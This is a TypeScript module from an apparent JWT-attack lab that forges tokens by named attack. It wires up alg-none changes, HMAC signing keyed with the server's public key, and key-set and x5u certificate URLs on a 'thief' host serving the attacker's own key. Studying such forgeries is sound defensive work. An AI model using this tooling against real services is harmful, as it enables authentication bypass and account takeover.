import { createHmac, createPrivateKey, createPublicKey, sign, type JsonWebKey } from 'node:crypto';
import { attacks, isJsonObject, readJson, type AttackTools, type Forgery, type JsonObject } from '../jwt';
import type { EventData } from '../model';
import type { SigningKeyOrder } from './node-protocol';
import { selfSignedCertificate } from './thief-certificate';
import { THIEF_CERTIFICATE, THIEF_HOST, THIEF_KEY_SET } from './thief-site';

export interface AttackGiven {
  readonly claims: Readonly<Record<string, unknown>>;
  /** The server's public keys as it publishes them: a JWK Set, if it is one. */
  readonly jwks: unknown;
  /** The thief's own key pair, RS256. */
  readonly ownKey: SigningKeyOrder;
}

/** Forges a token as the attack says. @throws for an attack that nobody knows */
export function forgeBy(id: string, token: string, { claims, jwks, ownKey }: AttackGiven): EventData['token.forged'] {
  const attack = attacks.find((each) => each.id === id);
  if (!attack) throw new Error(`There is no attack "${id}".`);
  const pem = publicPem(jwks);
  const forgery = attack.forge(token, {
    claims: claims as AttackTools['claims'] & object,
    hmac: (alg, secret, input) =>
      createHmac(`sha${alg.slice(2)}`, secret)
        .update(input)
        .digest(),
    ownKey: {
      alg: 'RS256',
      publicJwk: publicJwk(ownKey),
      sign: (input) => sign('sha256', Buffer.from(input), createPrivateKey(ownKey.key)),
    },
    ownUrl: id === 'x5u-to-oneself' ? THIEF_CERTIFICATE : THIEF_KEY_SET,
    ...(pem !== null && { publicKeyPem: pem }),
  });
  const { title } = attack;
  if (!forgery.ok) return { attack: id, title, token: null, changes: [], note: forgery.reason };
  return { attack: id, title, token: forgery.tokens[0], changes: inWords(forgery), note: forgery.note ?? '' };
}

/** What the thief publishes of its key, by address: everything an attack may send a server to. */
export function published(ownKey: SigningKeyOrder): Readonly<Record<string, string>> {
  return {
    [THIEF_KEY_SET]: JSON.stringify({ keys: [publicJwk(ownKey)] }),
    [THIEF_CERTIFICATE]: selfSignedCertificate(THIEF_HOST, createPrivateKey(ownKey.key)),
  };
}

function publicJwk({ kid, key }: SigningKeyOrder): JsonObject {
  const text = JSON.stringify({ ...createPublicKey(key).export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' });
  const read = readJson(text);
  return read.ok && isJsonObject(read.value) ? read.value : {};
}

/** The first key of a JWK Set, as a server would keep it in a file. */
function publicPem(jwks: unknown): string | null {
  const [key] = (jwks as { keys?: JsonWebKey[] } | null)?.keys ?? [];
  if (!key) return null;
  return createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString();
}

/** "header /alg: RS256 → none" */
function inWords({ changes }: Extract<Forgery, { ok: true }>): string[] {
  return changes.map(({ part, pointer = '', before, after }) => {
    const where = `${part}${pointer === '' ? '' : ` ${pointer}`}`;
    if (before === undefined) return `${where}: ${after ?? 'added'}`;
    return `${where}: ${before} → ${after ?? 'nothing'}`;
  });
}
